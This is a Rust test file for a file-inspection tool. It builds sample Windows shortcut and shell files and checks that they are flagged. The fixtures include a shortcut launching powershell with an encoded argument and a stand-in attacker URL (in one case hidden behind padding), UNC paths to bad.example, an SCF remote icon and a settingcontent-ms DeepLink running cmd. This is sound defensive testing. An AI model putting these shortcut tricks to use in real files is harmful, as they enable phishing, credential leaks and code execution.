//! Small files made here.

use super::super::tests::{codes, examine, policy};
use crate::inspect::inspector::Examiner;

/// A shell link with arguments in UTF-16 and octets behind its end (MS-SHLLINK §2.1, §2.4).
fn shell_link(relative: &str, arguments: &str, behind: &[u8]) -> Vec<u8> {
    let mut out = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    out.extend_from_slice(&0xA8_u32.to_le_bytes());
    out.resize(76, 0);
    for text in [relative, arguments] {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        out.extend_from_slice(&u16::try_from(wide.len() / 2).unwrap().to_le_bytes());
        out.extend(wide);
    }
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(behind);
    out
}

#[test]
fn links_say_what_they_start_and_where_they_lead() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let blanks = format!("{}-enc AAAA http://bad.example/x", " ".repeat(300));
    type Case<'a> = (&'a str, Vec<u8>, &'a [&'a str], &'a [&'a str]);
    let cases: Vec<Case<'_>> = vec![
        (
            "a.lnk",
            shell_link("..\\powershell.exe", "-enc AAAA http://bad.example/x", b""),
            &["link.command"],
            &["link.overlay", "link.padded"],
        ),
        ("b.lnk", shell_link("..\\cmd.exe", &blanks, &[b'x'; 100]), &["link.padded", "link.overlay"], &[]),
        ("c.lnk", shell_link("\\\\bad.example\\share\\a.exe", "", b""), &["link.remote"], &[]),
        ("d.lnk", shell_link("..\\notes.txt", "", b""), &[], &["link."]),
        ("e.url", b"[InternetShortcut]\r\nURL=file://bad.example/a.exe\r\n".to_vec(), &["link.remote"], &[]),
        ("f.url", b"[InternetShortcut]\r\nURL=https://good.example/\r\n".to_vec(), &[], &["link."]),
        ("g.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\bad.example\\a.ico\r\n".to_vec(), &["link.remote"], &[]),
        (
            "h.library-ms",
            b"<?xml version='1.0'?><x><simpleLocation><url>\\\\bad.example\\s</url></simpleLocation></x>".to_vec(),
            &["link.remote"],
            &[],
        ),
        (
            "i.settingcontent-ms",
            b"<?xml version='1.0'?><x><DeepLink>cmd.exe /c calc</DeepLink></x>".to_vec(),
            &["link.command"],
            &[],
        ),
        (
            "j.js",
            b"var s = new ActiveXObject('WScript.Shell'); s.Run('powershell')".to_vec(),
            &["script.suspicious"],
            &[],
        ),
        ("k.iqy", b"WEB\r\n1\r\nhttp://bad.example/q\r\n".to_vec(), &["office.external-object"], &[]),
        (
            "l.ics",
            b"BEGIN:VCALENDAR\r\nURL:https://good.example/meet\r\nEND:VCALENDAR\r\n".to_vec(),
            &[],
            &["link.", "office."],
        ),
    ];
    for (name, body, wanted, unwanted) in cases {
        let facts = examine(&examiner, name, "application/octet-stream", &body);
        let found = codes(&facts);
        for code in wanted {
            assert!(found.iter().any(|c| c == code), "{name}: no {code} in {found:?}");
        }
        for code in unwanted {
            assert!(!found.iter().any(|c| c.starts_with(code)), "{name}: {code} in {found:?}");
        }
        if String::from_utf8_lossy(&body).contains("://") {
            assert!(!facts.urls.is_empty(), "{name} has links");
        }
    }
}
